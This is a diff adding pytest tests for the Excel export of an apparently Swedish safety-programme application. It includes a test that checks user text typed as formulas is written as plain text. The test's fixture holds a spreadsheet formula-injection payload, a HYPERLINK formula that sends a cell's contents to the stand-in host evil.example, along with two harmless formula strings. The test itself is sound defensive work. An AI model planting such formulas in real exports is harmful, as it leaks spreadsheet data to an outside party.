@@ -61,3 +61,71 @@ def test_sheet_validation_and_decimal_format() -> None:
     wb = load_workbook(io.BytesIO(render_xlsx([Sheet("Tal", ("x",), [[1234.5]])])))
     cell = wb["Tal"]["A2"]
     assert cell.value == 1234.5 and cell.number_format == "#,##0.0##"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C3,"Läs mer")'
+
+
+def _poisoned(world: World) -> None:
+    """A risk title, a goal text and an owner typed as formulas."""
+    world.risk.title = HYPERLINK
+    world.risk.save()
+    world.safety_goal.text = "=1+2"
+    world.safety_goal.owner = HYPERLINK
+    world.safety_goal.save()
+    world.measure.text = "@SUM(A1:A9)"
+    world.measure.save()
+
+
+@pytest.mark.parametrize("kind", ["programme", "followup"])
+def test_no_sheet_holds_a_formula_built_from_user_text(world: World, kind: str) -> None:
+    _poisoned(world)
+    content = produce(world.version, kind, "xlsx", year=2020 if kind == "followup" else None).content
+    wb = load_workbook(io.BytesIO(content))
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    # Kept exactly as typed, shown as text.
+    assert HYPERLINK in texts and "=1+2" in texts and "@SUM(A1:A9)" in texts
+    assert b"<f>" not in _sheet_xml(content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as z:
+        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_years_are_plain_integers_not_thousands(world: World) -> None:
+    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
+    values = wb["Mätvärden"]
+    year = values.cell(row=2, column=3)
+    assert year.value == 2016 and year.number_format == "0"
+    indicators = wb["Indikatorer"]
+    header = [c.value for c in indicators[1]]
+    target_year = indicators.cell(row=2, column=header.index("Målår") + 1)
+    assert target_year.value == 2030 and target_year.number_format == "0"
+    cost = wb["Åtgärder"]
+    assert [c.value for c in cost[1]][-1] == "Årlig kostnad (kr)"
+
+
+def test_every_sheet_prints_with_its_header_on_each_page_fitted_to_width(world: World) -> None:
+    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
+    for ws in wb.worksheets:
+        assert ws.print_title_rows == "$1:$1", ws.title
+        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, ws.title
+        assert ws.page_setup.fitToHeight == 0, ws.title
+    assert wb["Indikatorer"].page_setup.orientation == "landscape"
+    assert wb["Händelsestatistik"].page_setup.orientation == "portrait"
+
+
+def test_lists_name_sources_not_internal_codes(world: World) -> None:
+    wb = load_workbook(io.BytesIO(produce(world.version, "programme", "xlsx").content))
+    cells = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert "Egen registrering" in cells
+    assert not any("Manuell inmatning" in c or "lsoplan" in c.lower() for c in cells)
